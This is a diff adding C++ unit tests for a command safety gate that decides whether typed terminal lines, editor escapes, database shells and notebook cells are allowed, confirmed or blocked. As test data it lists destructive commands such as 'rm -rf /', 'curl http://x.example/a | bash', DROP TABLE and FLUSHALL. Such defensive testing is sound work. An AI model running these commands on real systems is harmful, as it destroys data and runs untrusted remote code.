@@ -70,7 +70,7 @@ TEST(Terminal, ACommandAfterTheFirstLineIsSeen) {
 }
 
 TEST(Terminal, AnUncertainLineAsks) {
-  for (const char* keys : {"Up", "Left", "ctrl+r", "Tab", "ctrl+y", "alt+period", "shift+Insert"}) {
+  for (const char* keys : {"Up", "ctrl+x", "ctrl+r", "Tab", "ctrl+y", "alt+period", "shift+Insert"}) {
     SafetyGate gate = ours();
     const Assessment a = after(gate, xterm(), {key(keys), key("Return")});
     EXPECT_EQ(a.decision, Decision::require_confirmation) << keys;
@@ -318,7 +318,7 @@ TEST(Terminal, Commands) {
            {"chmod -R 777 /", block},
            {"rm -rf src", ask},
            {"rm notes.txt", ask},
-           {"find . -name '*.o' -delete", ask},
+           {"find . -name '*.c' -delete", ask},
            {"git reset --hard HEAD~1", ask},
            {"git clean -fdx", ask},
            {"git push --force origin main", ask},
@@ -354,6 +354,150 @@ TEST(Terminal, Commands) {
     EXPECT_EQ(decision_name(decide(gate, type(std::string(c.line) + "\n"), xterm())), decision_name(c.decision))
         << c.line;
   }
+}
+
+TEST(Terminal, AnUnfinishedLineIsJudgedWithItsRest) {
+  const std::vector<std::pair<const char*, const char*>> lines = {{"rm -rf \\\n", "~/Documents\n"},
+                                                                  {"curl http://x.example/a |\n", "bash\n"},
+                                                                  {"cd / &&\n", "rm -rf home\n"},
+                                                                  {"rm -rf '\n", "' ~/Documents\n"}};
+  for (const auto& [first, second] : lines) {
+    SafetyGate gate = ours();
+    EXPECT_NE(after(gate, xterm(), {type(first), type(second)}).decision, Decision::allow) << first;
+  }
+}
+
+TEST(Terminal, ALineThatRanIsNotJudgedAgain) {
+  SafetyGate gate = ours();
+  record(gate, type("rm -rf ~/Documents; cat <<EOF\n"), xterm());
+  EXPECT_EQ(decide(gate, type("hello\n"), xterm()), Decision::allow) << "asked about, and nothing new";
+  record(gate, type("hello\n"), xterm());
+  EXPECT_NE(decide(gate, type("EOF\n"), xterm()), Decision::allow) << "now it runs";
+  record(gate, type("EOF\n"), xterm());
+  EXPECT_EQ(decide(gate, type("ls\n"), xterm()), Decision::allow);
+  SafetyGate database = ours();
+  for (const char* line : {"psql shop\n", "select id, total from orders;\n", "DELETE FROM orders;\n"})
+    record(database, type(line), xterm());
+  EXPECT_EQ(decide(database, type("\\q\n"), xterm()), Decision::allow);
+}
+
+TEST(Terminal, KeysThatMoveTheCursorAreFollowed) {
+  SafetyGate gate = ours();
+  EXPECT_EQ(after(gate, xterm(), {type("-rf /"), key("Home"), type("rm "), key("Return")}).decision, Decision::block);
+  for (const char* edit : {"ctrl+a", "Home", "alt+b alt+b"}) {
+    SafetyGate quiet = ours();
+    EXPECT_EQ(after(quiet, xterm(), {type("ls -l"), key(edit), key("ctrl+k"), type("pwd"), key("Return")}).decision,
+              Decision::allow)
+        << edit;
+  }
+  SafetyGate erased = ours();
+  EXPECT_EQ(after(erased, xterm(), {type("ls -l"), key("ctrl+w"), type("-la"), key("Return")}).decision,
+            Decision::allow);
+  SafetyGate kept = ours();
+  EXPECT_NE(after(kept, xterm(), {type("rm -rf ~/a "), key("ctrl+w"), type("/tmp/b"), key("Return")}).decision,
+            Decision::allow)
+      << "a program in which ctrl+w does something else still has the word";
+  SafetyGate between = ours();
+  EXPECT_EQ(after(between, xterm(), {type("ls"), key("alt+Tab"), type("\n")}).decision, Decision::allow);
+  SafetyGate cleared = ours();
+  EXPECT_EQ(after(cleared, xterm(), {type("ls s"), key("Tab"), key("ctrl+u"), type("pwd\n")}).decision,
+            Decision::allow);
+}
+
+TEST(Terminal, ProgramsWithAScreenTakeTheirKeys) {
+  SafetyGate editor = ours();
+  EXPECT_EQ(
+      after(editor, xterm(), {type("vim a.c\n"), key("Down Down"), type("dd"), key("Escape"), type(":wq\n")}).decision,
+      Decision::allow);
+  record(editor, key("Up"), xterm());
+  EXPECT_NE(decide(editor, key("Return"), xterm()), Decision::allow) << "the editor has ended";
+  SafetyGate pager = ours();
+  EXPECT_EQ(after(pager, xterm(), {type("man tar\n"), key("space"), key("Next"), type("q"), type("ls\n")}).decision,
+            Decision::allow);
+  SafetyGate behind = ours();
+  EXPECT_EQ(after(behind, xterm(), {type("man tar\n"), type("q"), type("rm -rf /\n")}).decision, Decision::block);
+  SafetyGate escape = ours();
+  EXPECT_EQ(after(escape, xterm(), {type("vim a.c\n"), type(":!rm -rf /\n")}).decision, Decision::block);
+}
+
+TEST(Terminal, LinesAreReadAsTheProgramDoesThatRuns) {
+  const std::vector<std::vector<const char*>> dangerous = {
+      {"psql shop\n", "DELETE\n", "FROM users;\n"},
+      {"sudo -u postgres psql\n", "drop\n", "table users;\n"},
+      {"drop\n", "table users;\n"},
+      {"docker exec -it db mysql shop\n", "truncate\n", "orders;\n"},
+      {"rails console\n", "User.delete_all\n"},
+      {"python manage.py shell\n", "User.objects.all().delete()\n"},
+      {"python3\n", "from os import system as s\n", "s('rm -rf /home')\n"},
+      {"lftp files.example.com\n", "mrm *\n"},
+      {"redis-cli\n", "FLUSHALL\n"},
+  };
+  for (const auto& lines : dangerous) {
+    SafetyGate gate = ours();
+    Assessment last;
+    for (const char* line : lines) {
+      last = assess(gate, type(line), xterm());
+      record(gate, type(line), xterm());
+    }
+    EXPECT_NE(last.decision, Decision::allow) << lines.front() << lines.back();
+  }
+  const std::vector<std::vector<const char*>> harmless = {
+      {"psql shop\n", "select id,\n", "total from orders\n", "limit 5;\n", "\\q\n", "ls\n"},
+      {"python3\n", "x = [1, 2]\n", "x.remove(2)\n", "del x\n", "exit()\n", "ls\n"},
+      {"gdb ./app\n", "break main\n", "delete 1\n", "quit\n"},
+      {"lftp host\n", "ls\n", "bye\n"},
+  };
+  for (const auto& lines : harmless) {
+    SafetyGate gate = ours();
+    for (const char* line : lines) {
+      EXPECT_EQ(decide(gate, type(line), xterm()), Decision::allow) << line;
+      record(gate, type(line), xterm());
+    }
+  }
+}
+
+Observation embedded(std::string app, std::string name, std::string css) {
+  Element area = element(Role::entry, std::move(name));
+  area.states.add(State::multi_line);
+  if (!css.empty()) area.attributes.emplace_back("class", std::move(css));
+  return on(area, window(app, "shop", app));
+}
+
+TEST(Terminal, TerminalsInsideOfOtherProgramsAreTerminals) {
+  for (const Observation& where :
+       {embedded("code", "Terminal 1, bash", ""), embedded("jetbrains-idea", "Terminal", ""),
+        embedded("firefox", "", "xterm-helper-textarea"), embedded("chromium", "Terminal input", "")}) {
+    SafetyGate gate = ours();
+    EXPECT_EQ(after(gate, where, {type("rm -rf"), type(" /"), key("Return")}).decision, Decision::block);
+  }
+  for (const Observation& where :
+       {embedded("code", "app.ts, Editor Group 1", ""), embedded("firefox", "Comment", "x-xterm"),
+        embedded("firefox", "Terminals of the airport", "")}) {
+    SafetyGate gate = ours();
+    EXPECT_EQ(after(gate, where, {type("rm -rf /"), key("Return")}).decision, Decision::allow);
+  }
+}
+
+TEST(Terminal, CellsOfNotebooksAreJudgedWhenTheyRun) {
+  Observation cell = embedded("firefox", "Cell 1", "cm-content");
+  cell.document = Document{"https://hub.example/lab/tree/a.ipynb", "a.ipynb"};
+  for (const char* text :
+       {"!rm -rf ~/data", "%%bash\ncd x\nrm -rf ~/data", "import shutil\nshutil.rmtree('/home/somebody/data')",
+        "files = !rm -rf ~/data", "%sx rm -rf ~/data", "%%sql\ndrop table users"}) {
+    for (const char* run : {"shift+Return", "ctrl+Return", "alt+Return"}) {
+      SafetyGate gate = ours();
+      EXPECT_EQ(after(gate, cell, {type(text), key("Return")}).decision, Decision::allow) << text;
+      EXPECT_NE(after(gate, cell, {key(run)}).decision, Decision::allow) << text;
+    }
+  }
+  for (const char* text :
+       {"df.drop(columns=['id'], inplace=True)", "!pip list", "%matplotlib inline", "x = 1\n!ls data"}) {
+    SafetyGate gate = ours();
+    EXPECT_EQ(after(gate, cell, {type(text), key("shift+Return")}).decision, Decision::allow) << text;
+  }
+  SafetyGate shown = ours();
+  cell.focus->value = std::string("!rm -rf ~/data");
+  EXPECT_NE(after(shown, cell, {key("shift+Return")}).decision, Decision::allow) << "what stands in it runs, too";
 }
 
 }  // namespace
